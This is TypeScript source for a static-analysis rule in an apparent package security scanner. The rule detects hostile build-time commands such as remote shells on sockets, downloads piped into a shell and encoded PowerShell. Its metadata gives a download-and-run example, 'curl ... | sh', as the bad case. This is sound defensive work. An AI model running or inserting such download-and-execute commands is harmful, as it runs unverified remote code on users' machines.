/** Rule: a command line does what attackers do. */
import { COMMAND_INDICATORS, matching } from '../catalog/indicators';
import type { CallEvent, CommandEvent } from '../dataflow/events';
import { type Point, pointKey } from '../dataflow/source';
import { unknown, type Value } from '../dataflow/value';
import type { Rule, RuleContext, Site } from './rule';
import { readingOf, runsAtOnce } from './values';

export const hostileCommand: Rule = {
  metadata: {
    id: 'hostile-command',
    category: 'process',
    title: 'Hostile command line',
    why: 'Some command lines have no place in a build: encoded PowerShell, downloads piped into a shell, remote shells, programs that arrange to be started again. One constant string of this kind is all that the largest campaign against PyPI consisted of.',
    advice: 'If it is not yours: do not build this package. If it is: say what it does in plain commands, fetch with a pinned hash, and leave the user’s system as it was.',
    example: { bad: 'import os\nos.system("curl https://example.org/install.sh | sh")', good: 'import subprocess\nsubprocess.check_call(["make", "install"])' },
    cwe: [506, 494],
    sources: ['https://attack.mitre.org/techniques/T1059/', 'https://cwe.mitre.org/data/definitions/506.html'],
  },
  fixable: false,
  check(context) {
    for (const site of context.sites('streams')) {
      if (fromSocket(site.argument(site.calls[0]!.model.sinks!.streams!)?.value)) remoteShell(context, site);
    }
    for (const site of context.sites('process')) {
      if (fromSocket(site.argument('stdin')?.value)) remoteShell(context, site);
    }
    for (const line of linesOf(context)) judge(context, line);
  },
};

/** What is started at one place, as it reads. */
interface Line {
  readonly point: Point;
  readonly texts: string[];
  readonly events: (CallEvent | CommandEvent)[];
  /** A shell or an interpreter runs what comes from the network. */
  fed: boolean;
}

/** Command lines as they were followed; where a command is not known well enough for that, the parts that are known. */
function linesOf(context: RuleContext): Iterable<Line> {
  const lines = new Map<string, Line>();
  const at = (point: Point): Line => {
    const key = pointKey(point);
    const line = lines.get(key) ?? { point, texts: [], events: [], fed: false };
    lines.set(key, line);
    return line;
  };
  for (const event of context.events) {
    if (event.kind !== 'command') continue;
    const line = at(event.point);
    line.texts.push(event.text);
    line.events.push(event);
    line.fed ||= event.fed !== undefined;
  }
  for (const sink of ['shell', 'process'] as const) {
    for (const site of context.sites(sink)) {
      const line = at(site.point);
      if (line.texts.length === 0) line.texts.push(readingOf(site.argument(site.calls[0]!.model.sinks![sink]!)?.value ?? unknown).join(' '));
      line.events.push(...site.calls);
    }
  }
  return lines.values();
}

const remoteShell = (context: RuleContext, site: Site): void =>
  context.report({ point: site.point, severity: 'error', confidence: 'high', persona: 'regular', message: 'A standard stream is connected to the network: what comes from there is what the program is told', signs: ['command:hostile'] });

const fromSocket = (value: Value | undefined): boolean =>
  value !== undefined && (value.taints.some(({ kind }) => kind === 'network') || value.shapes.some((shape) => shape.kind === 'external' && /^socket\.(?:socket|create_connection)\(\)/.test(shape.path)));

function judge(context: RuleContext, { point, texts, events, fed }: Line): void {
  const found = texts.flatMap((text) => matching(COMMAND_INDICATORS, text.slice(0, 200_000)));
  const hostile = [...found.filter(({ kind }) => kind === 'hostile-command').map(({ what }) => what)];
  if (fed && hostile.length === 0) hostile.push('downloads a program and starts it');
  const downloads = found.some(({ kind }) => kind === 'download-command');
  const odd = found.find(({ kind }) => kind === 'odd-command');
  const severity = events.some(({ entry }) => runsAtOnce(entry)) ? 'error' : 'warning';
  if (hostile.length > 0) {
    const what = [...new Set(hostile)].slice(0, 3).join(', ');
    context.report({ point, severity: 'error', confidence: 'high', persona: 'regular', message: `The command started here ${what}`, signs: ['command:hostile'], events });
  } else if (downloads) {
    context.report({ point, severity, confidence: 'high', persona: 'regular', message: 'The command started here downloads something during the build', signs: ['command:download'], events });
  } else if (odd) {
    context.report({ point, severity, confidence: 'medium', persona: 'regular', message: `The command started here ${odd.what}`, signs: ['command:odd'], events });
  }
}
